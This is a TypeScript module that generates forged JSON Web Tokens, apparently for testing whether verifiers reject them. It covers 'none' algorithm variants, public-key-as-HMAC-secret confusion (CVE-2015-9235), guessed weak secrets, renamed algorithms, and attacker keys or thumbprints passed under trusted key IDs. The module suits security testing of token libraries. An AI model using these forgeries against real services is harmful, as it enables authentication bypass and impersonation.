import type { KeyObject } from 'node:crypto'
import { type Forgery, genuine, inputOf, jws, mac, type Pair, pair, partsOf, thumbprint, type Victim } from './forging.ts'

const nothings: unknown[] = [
  ...['none', 'None', 'NONE', 'nOnE', 'noNE', 'NoNe', 'none ', ' none', 'none\0', 'none\n', '\u043done', '', 'null', 'undefined'],
  ...[null, false, 0, [], ['none'], {}, { none: true }, undefined],
]

/** `none` in every spelling (RFC 8725 §2.1), with everything that can stand where a signature should be. */
export function unsigned(victim: Victim): Forgery[] {
  const signature = partsOf(genuine(victim))[2]
  return nothings.flatMap(alg => {
    const input = inputOf({ alg, kid: victim.trusted[0]?.kid, ...victim.header }, victim.claims())
    const without = inputOf({ alg, ...victim.header }, victim.claims())
    const name = `alg ${JSON.stringify(alg)}`
    return [
      { name: `${name}, empty signature`, token: `${input}.` },
      { name: `${name}, two parts`, token: input },
      { name: `${name}, a signature of one byte, no kid`, token: `${without}.AA` },
      { name: `${name}, the signature of another token`, token: `${input}.${signature}` },
    ]
  })
}

/** A public key as the secret of a MAC (CVE-2015-9235): in every form in which a library may have kept it. */
export function publicKeyAsSecret(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key =>
    Object.entries(formsOf(key, victim)).flatMap(([form, secret]) =>
      ['HS256', 'HS384', 'HS512'].map(alg => ({
        name: `${alg} with the ${key.alg} public key as ${form}`,
        token: mac(alg, secret, { kid: key.kid, ...victim.header }, victim.claims()),
      })),
    ),
  )
}

function formsOf({ publicKey, jwk, kid }: Pair, victim: Victim): Record<string, Buffer | string> {
  const pem = publicKey.export({ format: 'pem', type: 'spki' }).toString()
  const spki = publicKey.export({ format: 'der', type: 'spki' })
  return {
    ...{ 'PEM with its newline': pem, 'PEM without newline': pem.trimEnd(), 'PEM with CRLF': pem.replaceAll('\n', '\r\n') },
    ...{ 'PEM on one line': pem.replaceAll('\n', ''), 'the text within PEM': pem.split('\n').slice(1, -2).join('') },
    ...{ DER: spki, 'base64url of DER': spki.toString('base64url') },
    ...{
      'JWK of the set': JSON.stringify(jwk),
      'bare JWK': JSON.stringify(publicKey.export({ format: 'jwk' })),
      'pretty JWK': JSON.stringify(jwk, null, 2),
    },
    'the whole set': JSON.stringify({ keys: victim.trusted.map(each => each.jwk) }),
    ...ofItsType(publicKey, jwk),
    ...{ kid },
  }
}

function ofItsType(publicKey: KeyObject, jwk: Pair['jwk']): Record<string, Buffer | string> {
  if (jwk.kty === 'RSA') {
    const pkcs1 = publicKey.export({ format: 'pem', type: 'pkcs1' }).toString()
    return {
      ...{ 'PKCS #1 PEM': pkcs1, 'PKCS #1 PEM without newline': pkcs1.trimEnd() },
      'PKCS #1 DER': publicKey.export({ format: 'der', type: 'pkcs1' }),
      ...{ modulus: Buffer.from(String(jwk.n), 'base64url'), 'text of n': String(jwk.n) },
    }
  }
  const x = Buffer.from(String(jwk.x), 'base64url')
  if (jwk.kty === 'OKP') return { 'the bytes of x': x, 'text of x': String(jwk.x) }
  const point = Buffer.concat([Buffer.from([4]), x, Buffer.from(String(jwk.y), 'base64url')])
  return { 'the bytes of x': x, 'text of x': String(jwk.x), 'uncompressed point': point }
}

/** Secrets that anybody would try, and spellings that a comparison without regard to case lets through. */
export function guessedSecrets(victim: Victim): Forgery[] {
  const kid = victim.trusted[0]?.kid
  const secrets = ['', '\0', 'secret', 'password', 'changeit', 'your-256-bit-secret', victim.server, String(victim.claims().sub), 'null']
  const spellings = ['hs256', 'Hs256', 'HS256 ', 'HS256\0', 'HMAC', 'HS1', 'HS257']
  return [
    ...secrets.map(secret => ({
      name: `HS256 with the secret ${JSON.stringify(secret)}`,
      token: mac('HS256', secret, { kid, ...victim.header }, victim.claims()),
    })),
    ...spellings.map(alg => ({
      name: `alg ${JSON.stringify(alg)} with an empty secret`,
      token: mac(alg, '', { kid, ...victim.header }, victim.claims()),
    })),
  ]
}

/** The right key under the wrong name of its algorithm, or under a name that is none. */
export function renamedAlgorithms(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key => {
    const names: unknown[] = [
      ...[key.alg.toLowerCase(), `${key.alg} `, ` ${key.alg}`, `${key.alg}\0`, `${key.alg},none`, `${key.alg[0]}\u200b${key.alg.slice(1)}`],
      ...[
        [key.alg],
        { alg: key.alg },
        key.alg.replace(/[A-Z]/g, letter => String.fromCodePoint(0xff00 + (letter.codePointAt(0) ?? 0) - 32)),
      ],
      ...['ES384', 'ES512', 'ES256K', 'RS384', 'RS512', 'PS256', 'RS1', 'SHA256withRSA', 'RSA-OAEP', 'dir', 'toString', '__proto__'],
      ...['ES256', 'RS256', 'EdDSA', 'Ed25519', 'Ed448'].filter(name => !isNameOf(key, name)),
    ]
    return names.map(alg => ({
      name: `a ${key.alg} signature under alg ${JSON.stringify(alg)}`,
      token: jws(key, JSON.stringify({ alg, kid: key.kid, ...victim.header }), victim.claims()),
      signed: true as const,
    }))
  })
}

/** `Ed25519` is another name of what `EdDSA` is with such a key (RFC 9864 §2.2). */
function isNameOf({ alg }: Pair, name: string): boolean {
  return name === alg || (alg === 'EdDSA' && name === 'Ed25519')
}

/** Keys of the attacker under the name of trusted ones, of every kind. */
export function foreignKeys(victim: Victim): Forgery[] {
  const attackers = ['ES256', 'ES384', 'ES512', 'ES256K', 'RS256', 'RS384', 'PS256', 'PS512', 'EdDSA'].map(alg => pair(alg, 'attacker'))
  const kids = [...victim.trusted.map(({ kid }) => kid), 'attacker', undefined]
  return attackers.flatMap(attacker =>
    kids.flatMap(kid => [
      {
        name: `signed by an attacker with ${attacker.alg}, kid ${kid === undefined ? 'left out' : kid}`,
        token: genuine(victim, attacker, {}, { kid }),
      },
    ]),
  )
}

/** Names under which a trusted key could be meant without being named. */
export function thumbprints(victim: Victim): Forgery[] {
  const attacker = pair('ES256', 'attacker')
  return victim.trusted.flatMap(key =>
    [thumbprint(key), thumbprint(attacker), `urn:ietf:params:oauth:jwk-thumbprint:sha-256:${thumbprint(key)}`].map((kid, index) => ({
      name: `signed by an attacker, kid a thumbprint (${key.alg}, ${index})`,
      token: genuine(victim, attacker, {}, { kid }),
    })),
  )
}
